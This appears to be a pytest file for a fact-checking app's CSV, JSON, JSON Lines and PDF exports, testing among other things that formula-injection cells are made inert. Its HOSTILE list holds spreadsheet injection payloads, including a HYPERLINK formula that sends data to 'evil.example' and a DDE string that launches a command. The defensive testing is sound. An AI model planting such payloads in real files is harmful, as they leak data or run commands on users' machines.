"""CSV (hostile cells made inert), JSON, JSON Lines and the PDF report, read back."""

import csv
import io
import json
import re

import pytest
from pypdf import PdfReader

from claims.exports import selectors, services
from claims.exports.formats.csv import BOM, COLUMNS, neutralise
from claims.models import Claim
from tests.exports.data import verdict_claim

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def export_bytes(format_name: str, **filters) -> bytes:
    queryset = selectors.export_queryset(user=None, filters=filters)
    out = io.BytesIO()
    services.write_export(format_name, queryset, out, filters=filters)
    return out.getvalue()


@pytest.mark.parametrize("payload", HOSTILE)
def test_neutralise_prefixes_formula_cells(payload):
    assert neutralise(payload) == "'" + payload
    assert neutralise("Plain text =1") == "Plain text =1"
    assert neutralise(5) == 5


def test_csv_with_hostile_content_opens_safely(editor, checker):
    claims = []
    for i, payload in enumerate(HOSTILE):
        claims.append(
            verdict_claim(
                author=checker,
                decider=editor,
                text=f"{payload} (claim {i})",
                claimant=payload,
                summary='He said "it is so",\nthen left; =again',
                rationale="Строка по-русски, 中文, العربية\nsecond line, with a comma",
            )
        )
    data = export_bytes("csv")
    assert data.startswith(BOM.encode("utf-8"))  # Excel reads UTF-8 only with the BOM
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows[0] == COLUMNS
    body = rows[1:]
    assert len(body) == len(HOSTILE)
    formula_starts = ("=", "+", "-", "@", "\t", "\r")
    for row in body:
        for cell in row:
            assert not cell.startswith(formula_starts), cell
    by_id = {int(r[0]): dict(zip(COLUMNS, r, strict=True)) for r in body}
    for claim, payload in zip(claims, HOSTILE, strict=True):
        row = by_id[claim.pk]
        assert row["claim"] == "'" + claim.text
        assert row["claimant"] == "'" + payload
        # Quotes, commas and newlines survive the round trip inside one cell.
        assert row["summary"] == 'He said "it is so",\nthen left; =again'
        assert row["rationale"] == "Строка по-русски, 中文, العربية\nsecond line, with a comma"
        assert row["evidence_urls"] == "https://stats.example.org/report-2025"
        assert row["rating"] == "False" and row["rating_value"] == "1"
        assert row["public_url"].endswith(f"/fact-checks/{claim.pk}/")


def test_csv_lists_every_evidence_url_in_one_row_per_claim(editor, checker):
    urls = ("https://a.example.org/x", "https://b.example.org/y", "https://c.example.org/z")
    claim = verdict_claim(author=checker, decider=editor, evidence=urls)
    rows = list(csv.DictReader(io.StringIO(export_bytes("csv").decode("utf-8-sig"))))
    assert len(rows) == 1
    assert rows[0]["claim_id"] == str(claim.pk)
    assert rows[0]["evidence_urls"].split("\n") == list(urls)
    assert rows[0]["evidence_count"] == "3"


def test_json_and_json_lines(editor, checker):
    a = verdict_claim(author=checker, decider=editor, rating_slug="true")
    b = verdict_claim(author=checker, decider=editor, rating_slug="unverifiable")
    document = json.loads(export_bytes("json", rating=["true", "unverifiable"]))
    assert document["count"] == 2
    assert document["filters"] == {"rating": ["true", "unverifiable"]}
    by_id = {c["id"]: c for c in document["claims"]}
    assert by_id[a.pk]["rating"] == "True" and by_id[a.pk]["rating_value"] == 5
    assert by_id[a.pk]["best_rating"] == 5 and by_id[a.pk]["worst_rating"] == 1
    assert by_id[b.pk]["rating_value"] is None and by_id[b.pk]["best_rating"] is None
    assert by_id[b.pk]["evidence"][0]["url"] == "https://stats.example.org/report-2025"
    lines = export_bytes("jsonl").decode("utf-8").splitlines()
    assert sorted(json.loads(line)["id"] for line in lines) == sorted([a.pk, b.pk])


def test_empty_exports_are_still_valid_documents(db):
    assert json.loads(export_bytes("json"))["claims"] == []
    assert json.loads(export_bytes("claimreview"))["@graph"] == []
    assert export_bytes("jsonl") == b""
    assert export_bytes("csv").decode("utf-8-sig").strip() == ",".join(COLUMNS)


def test_only_approved_and_published_by_default_for_the_command(editor, checker):
    verdict_claim(author=checker, decider=editor, state=Claim.State.SUBMITTED)
    approved = verdict_claim(author=checker, decider=editor, state=Claim.State.APPROVED)
    published = verdict_claim(author=checker, decider=editor)
    ids = [c["id"] for c in json.loads(export_bytes("json"))["claims"]]
    assert sorted(ids) == sorted([approved.pk, published.pk])


def test_pdf_report_text(editor, checker):
    verdict_claim(
        author=checker,
        decider=editor,
        text="Unemployment fell to 3% <b>last</b> year.",
        rating_slug="false",
        summary="It rose to 5%.",
        rationale="The statistics office reports 5% & rising.",
        evidence=("https://stats.example.org/unemployment?year=2025&q=1",),
    )
    verdict_claim(
        author=checker, decider=editor, rating_slug="misleading", summary="Cherry-picked."
    )
    verdict_claim(author=checker, decider=editor, rating_slug="false", summary="Also wrong.")
    data = export_bytes("pdf", rating=["false", "misleading"])
    assert data.startswith(b"%PDF")
    reader = PdfReader(io.BytesIO(data))
    text = "\n".join(page.extract_text() for page in reader.pages)
    assert "verdict report" in text
    assert "Filters used" in text and "Rating: False, Misleading" in text
    assert re.search(r"Claims\s+3\s+Published\s+3\s", text)
    assert re.search(r"Evidence links\s+3\s", text)
    # The chart: a bar per rating, labelled, with its count.
    chart = text.split("Verdicts by rating", 1)[1].split("#1 ·", 1)[0]
    assert "False" in chart and "Misleading" in chart and "2" in chart
    assert "Unemployment fell to 3% <b>last</b> year." in text  # escaped, not markup
    assert "It rose to 5%." in text and "5% & rising" in text
    assert "https://stats.example.org/unemployment?year=2025&q=1" in text
    assert "Cherry-picked." in text
    links = [
        annot.get_object()["/A"]["/URI"]
        for page in reader.pages
        for annot in page.get("/Annots", [])
        if annot.get_object().get("/A", {}).get("/URI")
    ]
    assert "https://stats.example.org/unemployment?year=2025&q=1" in links
